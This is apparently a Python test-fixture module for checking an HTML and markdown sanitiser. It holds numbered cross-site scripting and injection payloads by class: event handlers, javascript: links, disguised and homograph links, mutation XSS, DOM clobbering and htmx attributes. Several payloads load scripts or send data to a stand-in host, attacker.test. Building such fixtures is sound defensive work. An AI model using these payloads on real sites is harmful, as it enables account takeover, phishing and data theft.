"""Hostile texts by class, in forms of our own.

The classes are those of the public lists: OWASP's on filter evasion and DOM clobbering, PortSwigger's on
cross-site scripting, the HTML5 Security Cheatsheet, DOMPurify's of attack classes and bypasses.
`pwned()` is a function of the page's that tells when it is called, attacker.test a name that nobody has; both
carry the vector's number, so that what goes wrong names the text.
"""

from __future__ import annotations

from dataclasses import dataclass

TITLE_MAX = 200
NAME_MAX = 100

_CLASSES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>pwned()</script>",
        "<ScRiPt/src=https://attacker.test/a.js></sCrIpT >",
        "<scr<script>ipt>pwned()</scr</script>ipt>",
        "</script><script type=module>pwned()</script>",
        "<<script>pwned();//<</script>",
        '<noscript><p title="</noscript><script>pwned()</script>">',
        '<script\x0cdefer>import("https://attacker.test/m.js")',
        "<script src=data:text/javascript,pwned()></script>",
    ),
    "handler": (
        "<img src=x onerror=pwned()>",
        '<img/src="x"/onerror="pwned()"//',
        "<body onload=pwned() onpageshow=pwned()>",
        "<details open ontoggle=pwned()><summary>more</summary></details>",
        "<input autofocus onfocus=pwned()>",
        "<video><source onerror=pwned()></video>",
        "<b onpointerover=pwned() onmouseover=pwned() tabindex=0>over here</b>",
        "<p style=animation-name:rise onanimationstart=pwned()>",
        "<button popovertarget=q>Go</button><i id=q popover onbeforetoggle=pwned()>x</i>",
        "<audio src=x\tonerror\n=\npwned()>",
    ),
    "address": (
        "<a href=javascript:pwned()>read on</a>",
        '<a href="\x01 jAvA&#x09;scRipt&colon;pwned()">read on</a>',
        '<a href="data:text/html,<script>opener.pwned()</script>">read on</a>',
        "<a href=vbscript:pwned()>read on</a>",
        '<a href="javascript://attacker.test/%0apwned()">read on</a>',
        "<a href=//attacker.test target=_self rel=opener>read on</a>",
        '<area shape=rect coords=0,0,999,999 href="javascript:pwned()">',
    ),
    "markdown link": (
        "[read on](javascript:pwned())",
        "[read on](JaVaScRiPt&colon;pwned())",
        "[read on](&#x6A;avascript&#58;pwned())",
        "[read on](<java\tscript:pwned()>)",
        "[read on](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
        "[read on][x]\n\n[x]: vbscript:pwned() 'why'",
        "<javascript:pwned()> and <data:text/html,x>",
        '[read on](https://attacker.test/" onmouseover="pwned()")',
        """[read on](https://attacker.test '" onfocus=pwned() autofocus x="')""",
        "[read on](//attacker.test/x) [or](/account/logout/) [or](\\\\attacker.test)",
        "[`](javascript:pwned())` [a](https://attacker.test/<svg/onload=pwned()>)",
    ),
    "disguised link": (
        "[https://bank.test/login](https://attacker.test/login)",
        "[https://bank.test](https://bank.test@attacker.test/)",
        "<https://bаnk.test/> <https://xn--bnk-7cd.test/>",
        "[\u202etset.knab//:sptth](https://attacker.test/)",
        "<https://attacker.test/\u202etset.knab//:sptth>",
        "[https://bank.test/&#8203;](https://attacker.test/?https://bank.test/)",
        "[x](<https://attacker.test/            https://bank.test/>)",
        "[a\\](https://bank.test)](https://attacker.test/)",
        "\u202e<https://attacker.test/moc.knab> ![x](https://attacker.test/)",
    ),
    "markdown image": (
        "![pixel](https://attacker.test/p.png)",
        '![x" onerror="pwned()](https://attacker.test/p.png)',
        '![x](https://attacker.test/p.png "x\\" onload=\\"pwned()")',
        "![x](javascript:pwned()) ![x](data:image/svg+xml,<svg/onload=pwned()>)",
        "[![x](https://attacker.test/p.png)](javascript:pwned())",
        '![x][pic]\n\n[pic]: https://attacker.test/r.png "why"',
        "![<img src=x onerror=pwned()>](https://attacker.test/?<svg/onload=pwned()>)",
    ),
    "svg and mathml": (
        "<svg onload=pwned()>",
        "<svg><script href=https://attacker.test/s.js /></svg>",
        "<svg><script>pwned&#40;&#41;</script></svg>",
        "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>x</text></a></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></use></svg>',
        "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
        "<svg><image href=https://attacker.test/i.svg onbegin=pwned()></image><set onbegin=pwned()>",
        "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>",
    ),
    "style": (
        "<style>*{background:url(https://attacker.test/all)}</style>",
        "<style>@import 'https://attacker.test/i.css';</style>",
        "<link rel=stylesheet href=https://attacker.test/l.css>",
        '<b style="background:url(https://attacker.test/b)">x</b>',
        "<p style='position:fixed;inset:0;z-index:9999'>Sign in again at attacker.test</p>",
        "<style>input[value^=a]{background:url(https://attacker.test/a)}#composer{display:none}",
        "<div class='toast rail menu' popover=manual>x</div>",
    ),
    "frame": (
        "<iframe src=javascript:parent.pwned()></iframe>",
        '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
        "<iframe src=https://attacker.test/ allow='camera *' name=main></iframe>",
        "<object data=data:text/html,<script>parent.pwned()</script>></object>",
        "<embed src=https://attacker.test/e.svg type=image/svg+xml>",
        "<frameset onload=pwned()><frame src=https://attacker.test/></frameset>",
        "<portal src=https://attacker.test/></portal><fencedframe></fencedframe>",
    ),
    "meta, base and form": (
        "<meta http-equiv=refresh content='0;url=https://attacker.test/'>",
        "<meta http-equiv=Content-Security-Policy content='script-src *'>",
        "<base href=https://attacker.test/>",
        "<form action=https://attacker.test/ id=composer><input name=text type=password></form>",
        "<button form=composer formaction=javascript:pwned() type=submit>Send</button>",
        "<input type=image src=https://attacker.test/i.png formaction=//attacker.test>",
        "<textarea form=edit name=csrfmiddlewaretoken>",
        "<form method=dialog><button autofocus accesskey=x>Close</button></form>",
    ),
    "htmx": (
        "<div hx-get=/attacker hx-trigger=load>x</div>",
        "<div data-hx-get=/attacker data-hx-trigger=load>x</div>",
        "<p hx-on:click=pwned() hx-on::load=pwned()>x</p>",
        "<a hx-post=/account/logout/ hx-trigger='every 1s' hx-target=body hx-swap=outerHTML>x</a>",
        "<i hx-vals='js:{a:pwned()}' hx-headers:inherited='js:{a:pwned()}'>x</i>",
        "<span hx-swap-oob=innerHTML:#title>x</span><h1 id=title hx-swap-oob=true>x</h1>",
        "<meta name=htmx-config content='{\"mode\":\"cors\"}'><hx-partial hx-target='#main'>x</hx-partial>",
        "<chat-stream data-socket=wss://attacker.test/ data-conversation=x></chat-stream>",
        "<chat-answer generation=x data-url=/attacker><p class=words></p></chat-answer>",
        "<button data-deed=regenerate data-copies=message data-toggles=rail data-key=n>Copy</button>",
    ),
    "encoding": (
        "&lt;script&gt;pwned()&lt;/script&gt;",
        "&#60;img src=x onerror=pwned()&#62;",
        "&amp;lt;svg onload=pwned()&amp;gt;",
        "\\<script>pwned()\\</script>",
        "%3Cscript%3Epwned()%3C/script%3E",
        "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
        "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
        "\uff1cscript\uff1epwned()\uff1c/script\uff1e <\u017fcript>pwned()</\u017fcript>",
    ),
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style><i title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
        "<noembed><img title='</noembed><img src=x onerror=pwned()>'></noembed>",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=pwned()></style>",
        "<![CDATA[><img src=x onerror=pwned()>]]><?xml <img src=x onerror=pwned()>?>",
        "<!--><img src=x onerror=pwned()>--> <!--x--!><img src=x onerror=pwned()>",
        "<select><template><style><img src=x onerror=pwned()></select>",
        "<xmp><p title='</xmp><svg onload=pwned()>'></xmp><plaintext>",
    ),
    "clobbering": (
        "<img name=cookie><form id=body name=forms><input name=action></form>",
        "<a id=htmx></a><a id=htmx name=ajax href=x>x</a>",
        "<section id=thread data-leaf=x></section><p id=question>x</p>",
        "<i id=main></i><i id=title></i><i id=rail></i><i id=refusal></i>",
        "<embed name=getElementById><object name=querySelector></object>",
        "<form id=composer><input name=submit><input name=parentNode></form>",
        "{{ request.user.password }}{% debug %}{% csrf_token %}${pwned()}<%= pwned() %>",
        "<template class=source>other words</template><slot name=said></slot>",
    ),
    "unicode": (
        "\u202e\u202dpwned()\u2066\u202b never closed \u202e",
        "<scr\x00ipt>pwned()</scr\x00ipt><\x00img src=x onerror=pwned()>",
        "a\u2028b\u2029c\x85d\x0b<img\x0csrc=x\xa0onerror=pwned()>",
        "Z" + "\u0351\u0363\u035c\u0489" * 40 + " over the edge",
        "\u200b\u200c\u200d\ufeff<\u200bscript>pwned()</script>\U000e0041\U000e0042",
        "W" * 190,
        "\x1b]0;pwned\x07\x1b[2J\x08\x7f<b onclick=pwned()>",
    ),
    "fetching": (
        "<img srcset='https://attacker.test/1x.png 1x' loading=eager>",
        "<picture><source srcset=https://attacker.test/s.webp></picture>",
        "<a href=https://bank.test ping=https://attacker.test/ping download>read on</a>",
        "<link rel='prefetch dns-prefetch preconnect' href=https://attacker.test/>",
        "<video poster=https://attacker.test/p.png src=https://attacker.test/v.mp4 autoplay>",
        "<table background=https://attacker.test/t.png><track src=https://attacker.test/t.vtt>",
        "<a href=https://attacker.test target=_top rel=opener referrerpolicy=unsafe-url>x</a>",
        '<script type=speculationrules>{"prefetch":[{"urls":["https://attacker.test/"]}]}</script>',
    ),
    "attribute": (
        '"><img src=x onerror=pwned()>',
        "' autofocus onfocus='pwned()' x='",
        '" onmouseover="pwned()" data-key="n" x="',
        "</title><script>pwned()</script>",
        "</textarea></form><img src=x onerror=pwned()>",
        "</template></article><svg onload=pwned()>",
        "--></style></noscript></select><img src=x onerror=pwned()>",
        "</p></li></ul></main><h1 id=title>Sign in again</h1>",
    ),
    "code": (
        '```"><script>pwned()</script>\ncode\n```',
        '```python" onclick="pwned()\ncode\n```',
        "```html\n</code></pre></div><img src=x onerror=pwned()>\n```",
        "~~~ <svg/onload=pwned()>\n</pre>\n~~~",
        "    </pre><script>pwned()</script>\n\n`</code><img src=x onerror=pwned()>`",
        "```javascript\n</span><button data-copies=code>Copy</button>",
        "```mermaid\nclick A javascript:pwned()\n```\n\n$\\href{javascript:pwned()}{x}$",
    ),
    "block": (
        "| a |\n|---|\n| <img src=x onerror=pwned()> |",
        '| a" onclick="pwned() |\n|:-:|\n| [x](javascript:pwned()) |\n| </table> |',
        "[^1]\n\n[^1]: <img src=x onerror=pwned()> [up](javascript:pwned())",
        "# <h1 id=title>x</h1> {#title onclick=pwned()}",
        "- [x] <input type=checkbox onclick=pwned()>\n- </ul><svg onload=pwned()>",
        "> </blockquote></div><style>*{display:none}</style>",
        "999999999. x\n\n{: onclick='pwned()' .toast #rail}\n\n::: script\npwned()\n:::",
        "<details markdown=1 open>\n\n<summary onclick=pwned()>[x](javascript:pwned())\n",
    ),
}


@dataclass(frozen=True, slots=True)
class Vector:
    """One hostile text. Its number is in what it calls and whom it asks."""

    kind: str
    number: int
    text: str

    @property
    def title(self) -> str:
        """As a conversation's title keeps it."""
        return _stored(" ".join(self.text[:TITLE_MAX].split()))

    @property
    def name(self) -> str:
        """As a person's name keeps it."""
        return _stored(" ".join(self.text[:NAME_MAX].split()))

    @property
    def stored(self) -> str:
        return _stored(self.text)


def _stored(text: str) -> str:
    """The database keeps no NUL."""
    return text.replace("\0", "\ufffd")


def _all() -> tuple[Vector, ...]:
    texts = [(kind, text.strip()) for kind, texts in _CLASSES.items() for text in texts]
    return tuple(Vector(kind, number, _marked(text, number)) for number, (kind, text) in enumerate(texts, 1))


def _marked(text: str, number: int) -> str:
    return text.replace("pwned()", f"pwned({number})").replace("attacker.test", f"v{number}.attacker.test")


KINDS = tuple(_CLASSES)
VECTORS = _all()


def of(kind: str) -> list[Vector]:
    return [vector for vector in VECTORS if vector.kind == kind]
